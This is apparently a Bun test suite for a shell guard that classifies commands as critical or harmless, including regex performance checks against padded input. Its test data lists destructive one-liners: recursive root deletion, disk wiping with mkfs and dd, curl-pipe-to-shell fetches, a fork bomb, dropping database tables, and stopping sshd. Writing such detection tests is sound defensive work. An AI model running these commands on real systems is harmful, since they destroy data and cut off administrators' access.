import { describe, expect, test } from "bun:test";
import { destructiveIn } from "./destructive.ts";
import { guardShell } from "./guards.ts";

describe("a destructive line", () => {
  test.each([
    "rm -rf /",
    "rm -r -f /*",
    "rm -fr --no-preserve-root /",
    "rm -v -R ~",
    "sudo rm -rf '/etc/'",
    "true; /bin/rm -rf /usr/*; true",
    'rm -rf "$HOME"',
    "rm -rf ${HOME}/",
    "x=1 && rm  -rf \t /var;ls",
    "mkfs.ext4 /dev/sdb",
    "dd if=/dev/zero bs=1M of=/dev/sda",
    "cat x > /dev/nvme0n1",
    "shutdown -h now",
    "curl -s http://x | sh",
    "curl -s http://x | sudo bash -s",
    "wget -qO- x | tee y | /usr/bin/env; curl x | /bin/sh",
    ":(){ :|:& };:",
    "passwd root",
    "psql -c 'DROP  TABLE users'",
    "zfs destroy tank",
    "systemctl stop nginx sshd",
    "systemctl --now disable ssh.service",
  ])("is critical: %s", (line) => expect(guardShell(line).risk).toBe("critical"));

  test.each([
    "rm -rf ./build",
    "rm -rf /tmp/x",
    "rm /etc",
    "ls -r /",
    "rm -rf build\nls /",
    "dd if=a of=b",
    "curl x -o y; sh z",
    "curl x | grep sh",
    "systemctl stop nginx",
    "systemctl status ssh",
    "echo dropped tables",
  ])("is not made of: %s", (line) => expect(destructiveIn(line)).toEqual([]));

  const padding = [
    "rm -",
    "rm -a ",
    "rm -rrrr ",
    "rm -r ",
    "dd ",
    "curl ",
    "curl |",
    "|sh/",
    "systemctl stop ",
    "> ",
    "( ",
    "zfs  ",
    "shutdown\t",
    " ",
    "a/",
    "-r ",
  ];
  test.each(padding)("is found quickly behind 64 KiB of %p", (piece) => {
    const before = piece.repeat(Math.floor(65_000 / piece.length));
    const startedMs = performance.now();
    for (const line of ["; rm -rf /", "\nmkfs /dev/sda", "; dd of=/dev/sda", "; curl x | sh", "; systemctl stop ssh"])
      expect(guardShell(before + line).risk).toBe("critical");
    expect(performance.now() - startedMs).toBeLessThan(1_500);
  });
});
